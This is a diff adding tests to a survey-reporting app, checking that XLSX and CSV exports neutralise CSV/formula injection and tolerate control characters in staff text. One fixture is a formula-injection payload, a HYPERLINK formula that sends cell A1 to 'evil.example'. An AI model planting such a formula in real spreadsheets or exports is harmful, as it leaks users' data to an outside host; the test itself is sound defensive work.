@@ -12,9 +12,11 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 from sqlalchemy import update
 
-from tests.factories import PASSWORD, create_officer, create_user
+from engage.extensions import db
+from engage.surveys.models import Option
+from tests.factories import PASSWORD, create_admin, create_officer, create_user
 from tests.helpers import page_text
-from tests.reports.support import make_consultation
+from tests.reports.support import hand_worked, make_consultation, upload_population
 from tests.reports.test_public_report import (
     PUBLIC,
     REPORT,
@@ -249,3 +251,56 @@ def test_a_report_not_counted_has_no_downloads(app, client):
     assert "Download these figures as XLSX" not in page_text(client.get(REPORT))
     for url in (REPORT + "/figures.xlsx", REPORT + "/report.pdf"):
         assert client.get(url).status_code == 404
+
+
+# Text that a spreadsheet would run: an option label typed by staff in the questionnaire builder.
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Robbery")'
+
+
+def test_text_that_looks_like_a_formula_is_text_in_the_xlsx_and_quoted_in_the_csv(
+        app, client, other_client, run_tasks):
+    made = hand_worked(app)
+    with app.app_context():
+        db.session.execute(update(Option).where(Option.value == "robbery")
+                           .values(label=FORMULA))
+        db.session.commit()
+        create_officer("camden", email="officer@example.org")
+    client.sign_in("officer@example.org", PASSWORD)
+    client.submit(REPORT + "/collate", form_page=REPORT)
+    run_tasks()
+    assert made.slug in filename(client.get(REPORT + "/figures.csv"))
+    # The CSV has no types: the leading = is neutralised with an apostrophe (OWASP's advice).
+    assert row_for(csv_rows(client, REPORT + "/figures.csv"), "'" + FORMULA)[2] == "18"
+    publish(client)
+    for response in (client.get(REPORT + "/figures.xlsx"),
+                     other_client.get(PUBLIC_BASE + "/report.xlsx")):
+        book = workbook(response)
+        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        # In the workbook it is a text cell, so it reads as on the page, without the
+        # apostrophe, and is marked to stay text if edited.
+        label = next(cell for cell in cells if cell.value == FORMULA)
+        assert label.data_type == "s" and label.quotePrefix
+        assert not any(str(cell.value).startswith("'") for cell in cells)
+
+
+def test_control_characters_in_staff_text_do_not_break_the_xlsx(app, client, other_client,
+                                                                 run_tasks):
+    """A line break pasted from Word is a vertical tab, which a worksheet cannot hold: the
+    population figures' source, typed by an administrator, reaches every weighted report."""
+    hand_worked(app)
+    with app.app_context():
+        create_admin(email="admin@example.org")
+        create_officer("camden", email="officer@example.org")
+    other_client.sign_in("admin@example.org", PASSWORD)
+    assert upload_population(other_client, source="Census 2021\x0bOffice for National "
+                                                  "Statistics").status_code == 302
+    client.sign_in("officer@example.org", PASSWORD)
+    client.submit(REPORT + "/collate", form_page=REPORT)
+    run_tasks()
+    assert "Census 2021\x0bOffice" in client.get(REPORT + "/figures.csv").get_data(as_text=True)
+    response = client.get(REPORT + "/figures.xlsx")
+    assert response.status_code == 200
+    paragraphs = [row[11] for row in sheet_rows(workbook(response)["Figures"])
+                  if row[0] == "Weighting"]
+    assert any("(from Census 2021 Office for National Statistics)" in p for p in paragraphs)
